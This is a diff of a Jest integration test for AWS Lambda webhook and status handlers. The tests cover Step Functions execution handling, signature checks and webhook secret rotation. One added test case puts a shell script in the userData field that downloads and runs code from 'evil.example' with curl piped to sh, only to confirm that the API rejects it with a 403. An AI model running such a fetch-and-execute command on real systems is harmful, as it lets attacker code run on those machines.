@@ -1,72 +1,41 @@
-import { CreateSecretCommand, PutSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
-import {
-  CreateStateMachineCommand,
-  DescribeExecutionCommand,
-  ListExecutionsCommand,
-  SFNClient,
-  StopExecutionCommand,
-} from '@aws-sdk/client-sfn';
-import type { APIGatewayProxyEventV2, APIGatewayProxyStructuredResultV2, Context } from 'aws-lambda';
+import { DescribeExecutionCommand, StopExecutionCommand } from '@aws-sdk/client-sfn';
 import { apiGatewayEvent, lambdaContext } from '../../support/api-gateway-event';
-import { startMoto, type Moto } from '../../support/moto';
-import { consoleInput, signedRequest, WEBHOOK_SECRET, type SignOptions } from '../../support/webhook-requests';
+import { startRunApi, type ApiHandler, type RunApi } from '../../support/run-api';
+import { consoleInput, signedRequest, type SignOptions } from '../../support/webhook-requests';
 
 /**
- * The deployed webhook and status functions, end to end against moto's Step Functions and Secrets Manager:
- * the real handlers (middy, Powertools logger, SDK clients built from the environment) get API Gateway
- * events; we look at what Step Functions has afterwards.
+ * The deployed webhook and status functions, end to end against moto's Step Functions and Secrets Manager
+ * (test/support/run-api.ts): we look at what Step Functions has afterwards.
  */
 
-type Handler = (event: APIGatewayProxyEventV2, context: Context) => Promise<APIGatewayProxyStructuredResultV2>;
+type Handler = ApiHandler;
 
-let moto: Moto;
-let sfn: SFNClient;
-let secretsManager: SecretsManagerClient;
-let stateMachineArn: string;
+let api: RunApi;
 let webhook: Handler;
 let status: Handler;
+let stateMachineArn: string;
 
-async function call(handler: Handler, body: string | Buffer, options: SignOptions = {}, base64 = false) {
-  const event = apiGatewayEvent(signedRequest(body, options), { base64 });
-  const result = await handler(event, lambdaContext('test'));
-  return { statusCode: result.statusCode, body: JSON.parse(result.body ?? 'null') };
-}
-
-async function executions() {
-  return (await sfn.send(new ListExecutionsCommand({ stateMachineArn }))).executions ?? [];
-}
-
-const postRun = (body: unknown, options: SignOptions = {}) =>
-  call(webhook, typeof body === 'string' ? body : JSON.stringify(body), options);
+const call = (handler: Handler, body: string | Buffer, options: SignOptions = {}, base64 = false) =>
+  api.call(handler, body, options, base64);
+const executions = () => api.executions();
+const postRun = (body: unknown, options: SignOptions = {}) => api.postRun(body, options);
+/** `GET /runs/nope`: 404 when signed with a key the API accepts, 401 otherwise. */
+const getUnknownRun = (options: SignOptions) =>
+  call(status, '', {
+    method: 'GET',
+    path: '/runs/nope',
+    routeKey: 'GET /runs/{id}',
+    pathParameters: { id: 'nope' },
+    ...options,
+  });
 
 beforeAll(async () => {
-  moto = await startMoto({ env: true });
-  sfn = new SFNClient(moto.config);
-  secretsManager = new SecretsManagerClient(moto.config);
-  const secret = await secretsManager.send(
-    new CreateSecretCommand({ Name: 'canary-judge/webhook', SecretString: WEBHOOK_SECRET }),
-  );
-  const machine = await sfn.send(
-    new CreateStateMachineCommand({
-      name: 'canary-judge-run',
-      roleArn: 'arn:aws:iam::123456789012:role/canary-judge-states',
-      definition: JSON.stringify({ StartAt: 'Wait', States: { Wait: { Type: 'Wait', Seconds: 3600, End: true } } }),
-    }),
-  );
-  stateMachineArn = machine.stateMachineArn!;
-  process.env.WEBHOOK_SECRET_ARN = secret.ARN!;
-  process.env.STATE_MACHINE_ARN = stateMachineArn;
-  process.env.POWERTOOLS_LOG_LEVEL = 'SILENT';
-  // Imported only now: the handlers build their clients from the environment at load time, like a cold start.
-  webhook = (await import('../../../functions/webhook/handler')).handler as unknown as Handler;
-  status = (await import('../../../functions/status/handler')).handler as unknown as Handler;
+  api = await startRunApi();
+  ({ webhook, status, stateMachineArn } = api);
 }, 60_000);
 
 afterAll(async () => {
-  delete process.env.WEBHOOK_SECRET_ARN;
-  delete process.env.STATE_MACHINE_ARN;
-  delete process.env.POWERTOOLS_LOG_LEVEL;
-  await moto?.stop();
+  await api?.stop();
 });
 
 describe('POST /runs against Step Functions (moto)', () => {
@@ -80,7 +49,7 @@ describe('POST /runs against Step Functions (moto)', () => {
       `${stateMachineArn.replace(':stateMachine:', ':execution:')}:checkout_1.42.0_gh-100-1`,
     );
     expect(res.body.statusUrl).toBe('https://api.example.test/runs/checkout_1.42.0_gh-100-1');
-    const started = await sfn.send(new DescribeExecutionCommand({ executionArn: res.body.executionArn }));
+    const started = await api.sfn.send(new DescribeExecutionCommand({ executionArn: res.body.executionArn }));
     expect(started.status).toBe('RUNNING');
     expect(JSON.parse(started.input!)).toEqual(input);
     expect(await executions()).toHaveLength(1);
@@ -96,7 +65,7 @@ describe('POST /runs against Step Functions (moto)', () => {
 
   it('answers a retry after the run ended with that run (200 + its status), still one execution', async () => {
     const first = await postRun(input, { deliveryId: 'gh-102-1' });
-    await sfn.send(new StopExecutionCommand({ executionArn: first.body.executionArn }));
+    await api.sfn.send(new StopExecutionCommand({ executionArn: first.body.executionArn }));
     const late = await postRun(input, { deliveryId: 'gh-102-1' });
     expect(late.statusCode).toBe(200);
     expect(late.body).toMatchObject({ executionArn: first.body.executionArn, status: 'ABORTED' });
@@ -106,7 +75,7 @@ describe('POST /runs against Step Functions (moto)', () => {
   it('refuses a replayed delivery id with another body (409) and starts nothing', async () => {
     await postRun(input, { deliveryId: 'gh-103-1' });
     const before = (await executions()).length;
-    const other = { ...input, steps: [{ weight: 50, durationSeconds: 60 }] };
+    const other = { ...input, steps: [{ weight: 50, durationSeconds: 120 }] };
     const res = await postRun(other, { deliveryId: 'gh-103-1' });
     expect(res.statusCode).toBe(409);
     expect(res.body.error).toBe('delivery-conflict');
@@ -183,6 +152,19 @@ describe('POST /runs against Step Functions (moto)', () => {
       expect(res.body.field).toBe(field);
       expect(res.body.message).toContain(field);
     });
+
+    it.each([
+      ['canary.aws.userData', { userData: '#!/bin/sh\ncurl https://evil.example/x | sh' }],
+      ['canary.aws.imageId', { imageId: 'ami-0123456789abcdef0' }],
+    ])('a launch field the deployment does not accept → 403 naming %s', async (field, override) => {
+      const canary = input.canary as { aws: Record<string, unknown> };
+      const body = { ...input, canary: { ...canary, aws: { ...canary.aws, ...override } } };
+      const res = await postRun(body, { deliveryId: 'bad-7' });
+      expect([res.statusCode, res.body.error, res.body.field]).toEqual([403, 'field-not-allowed', field]);
+      expect(res.body.message).toContain(
+        `${field}: not allowed by this deployment (it accepts: instanceType,subnetIds,securityGroupIds)`,
+      );
+    });
   });
 });
 
@@ -206,35 +188,55 @@ describe('GET /runs/{id} against Step Functions (moto)', () => {
   });
 
   it('404 for an unknown run, 401 unsigned', async () => {
-    const get = (options: SignOptions) =>
-      call(status, '', {
-        method: 'GET',
-        path: '/runs/nope',
-        routeKey: 'GET /runs/{id}',
-        pathParameters: { id: 'nope' },
-        ...options,
-      });
+    const get = getUnknownRun;
     expect((await get({})).statusCode).toBe(404);
     expect((await get({ secret: 'wrong' })).statusCode).toBe(401);
   });
 });
 
 describe('webhook secret from Secrets Manager', () => {
-  it('is read once per container: a warm container keeps it, a cold one reads the rotated value', async () => {
-    await secretsManager.send(
-      new PutSecretValueCommand({ SecretId: process.env.WEBHOOK_SECRET_ARN, SecretString: 'rotated-secret' }),
-    );
-    expect((await postRun(consoleInput(), { deliveryId: 'gh-300-1' })).statusCode).toBe(202);
+  const rotate = (value: string) => api.rotate(value);
+  const start = (handler: Handler, deliveryId: string, secret?: string) =>
+    call(handler, JSON.stringify(consoleInput()), { deliveryId, secret });
 
+  it('a warm container accepts a key rotated after it cached the secret, and the previous key until the next rotation', async () => {
+    // Warm: this container has read and cached the secret (the tests above).
+    expect((await start(webhook, 'gh-300-0')).statusCode).toBe(202);
+    await rotate('rotated-secret');
+    // A container re-reads the secret for an unknown key at most once a second (SecretCache's minRereadMs).
+    await new Promise((resolve) => setTimeout(resolve, 1100));
+    // CI already signs with the new key (AWSCURRENT): accepted at once, not after the cache expires.
+    expect((await start(webhook, 'gh-300-1', 'rotated-secret')).statusCode).toBe(202);
+    // CI not updated yet: the key before the rotation is AWSPREVIOUS, still accepted.
+    expect((await start(webhook, 'gh-300-2')).statusCode).toBe(202);
+    // Two rotations later the first key is neither current nor previous.
+    await rotate('rotated-again');
+    await new Promise((resolve) => setTimeout(resolve, 1100));
+    expect((await start(webhook, 'gh-300-3', 'rotated-again')).statusCode).toBe(202);
+    expect((await start(webhook, 'gh-300-4', 'rotated-secret')).statusCode).toBe(202);
+    const stale = await start(webhook, 'gh-300-5');
+    expect([stale.statusCode, stale.body.error]).toEqual([401, 'bad-signature']);
+  });
+
+  it('a cold container reads the current and the previous key', async () => {
     let cold: Handler | undefined;
     await jest.isolateModulesAsync(async () => {
       cold = (await import('../../../functions/webhook/handler')).handler as unknown as Handler;
     });
-    const oldSecret = await call(cold!, JSON.stringify(consoleInput()), { deliveryId: 'gh-300-2' });
-    const newSecret = await call(cold!, JSON.stringify(consoleInput()), {
-      deliveryId: 'gh-300-2',
-      secret: 'rotated-secret',
-    });
-    expect([oldSecret.statusCode, newSecret.statusCode]).toEqual([401, 202]);
+    const results = await Promise.all([
+      start(cold!, 'gh-301-1', 'rotated-again'),
+      start(cold!, 'gh-301-2', 'rotated-secret'),
+      start(cold!, 'gh-301-3'),
+    ]);
+    expect(results.map((r) => r.statusCode)).toEqual([202, 202, 401]);
+  });
+
+  it('the status function follows a rotation too', async () => {
+    const get = (secret: string) => getUnknownRun({ deliveryId: 'poll-rot', secret });
+    await rotate('rotated-third');
+    await new Promise((resolve) => setTimeout(resolve, 1100));
+    expect((await get('rotated-third')).statusCode).toBe(404);
+    expect((await get('rotated-again')).statusCode).toBe(404);
+    expect((await get('rotated-secret')).statusCode).toBe(401);
   });
 });
